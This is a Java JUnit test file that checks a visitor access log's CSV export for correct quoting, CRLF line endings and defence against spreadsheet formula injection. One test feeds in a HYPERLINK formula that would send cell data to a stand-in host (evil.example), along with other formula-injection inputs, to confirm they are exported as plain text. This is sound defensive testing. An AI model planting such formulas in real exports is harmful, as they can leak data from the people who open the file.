package org.accessctl.report;

import static org.accessctl.report.VisitLogFixture.report;
import static org.junit.jupiter.api.Assertions.assertEquals;

import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class CsvReportTest {

    @TempDir
    Path dir;

    private String csv(Path db) {
        VisitLogFixture.Run run = report("--db", db.toString(), "--from", "2026-11-01", "--to", "2026-11-30",
                "--format", "csv");
        assertEquals(0, run.status(), run.err());
        return run.out();
    }

    @Test
    void oneRowPerVisitUnderAHeaderWithCrLf() {
        Path db = new VisitLogFixture(dir.resolve("door.db")).person("P-001", "Operator One")
                .visit("V-2026-0042", "Budi").with("organization", "Vendor X").with("purpose", "Replace disk")
                .with("approvedBy", "P-100").with("escortIds", List.of("P-001", "P-002"))
                .device("Laptop", "ABC123").device("Disk", "S-9").done()
                .write();
        assertEquals("Visit,Visitor,Organisation,Purpose,Escorts,Approved by,Time in,Time out,Duration,Devices,Alarms\r\n"
                + "V-2026-0042,Budi,Vendor X,Replace disk,P-001 Operator One; P-002,P-100,2026-11-23 09:03,"
                + "2026-11-23 10:15,1 h 12 min,Laptop (ABC123); Disk (S-9),\r\n", csv(db));
    }

    @Test
    void fieldsWithCommasQuotesAndLineBreaksAreQuoted() {
        Path db = new VisitLogFixture(dir.resolve("door.db"))
                .visit("V-1", "Santoso, Budi \"Bud\"").with("purpose", "Swap disk\r\nand check fans")
                .with("organization", "PT Maju\nJaya").times(null, "2026-11-23 10:15").done()
                .write();
        String row = csv(db).split("\r\n", 2)[1];
        assertEquals("V-1,\"Santoso, Budi \"\"Bud\"\"\",\"PT Maju\nJaya\",\"Swap disk\r\nand check fans\",,,"
                + "not recorded,2026-11-23 10:15,,,\r\n", row);
    }

    @Test
    void textThatASpreadsheetWouldRunAsAFormulaIsMarkedAsText() {
        Path db = new VisitLogFixture(dir.resolve("door.db"))
                .visit("V-1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")").with("organization", "+62 Vendor")
                .with("purpose", "-1+1").with("approvedBy", "@SUM(A1)").device("Laptop", "=1+1")
                .with("alarms", List.of("visit_overstay")).done()
                .write();
        String row = csv(db).split("\r\n", 2)[1];
        assertEquals("V-1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",'+62 Vendor,'-1+1,,'@SUM(A1),"
                + "2026-11-23 09:03,2026-11-23 10:15,1 h 12 min,Laptop (=1+1),stayed past the end of the visit\r\n",
                row);
    }

    @Test
    void anEmptyPeriodIsTheHeaderAlone() {
        Path db = new VisitLogFixture(dir.resolve("door.db")).write();
        assertEquals("Visit,Visitor,Organisation,Purpose,Escorts,Approved by,Time in,Time out,Duration,Devices,Alarms\r\n",
                csv(db));
    }

    @Test
    void csvFieldRules() {
        assertEquals("plain", CsvField.of("plain"));
        assertEquals("", CsvField.of(""));
        assertEquals("\"a,b\"", CsvField.of("a,b"));
        assertEquals("\"say \"\"hi\"\"\"", CsvField.of("say \"hi\""));
        assertEquals("\"'=1,2\"", CsvField.of("=1,2"));
        assertEquals("'\tx", CsvField.of("\tx"));
        assertEquals("\"'\rx\"", CsvField.of("\rx"));
        assertEquals("a=b", CsvField.of("a=b"));
    }
}
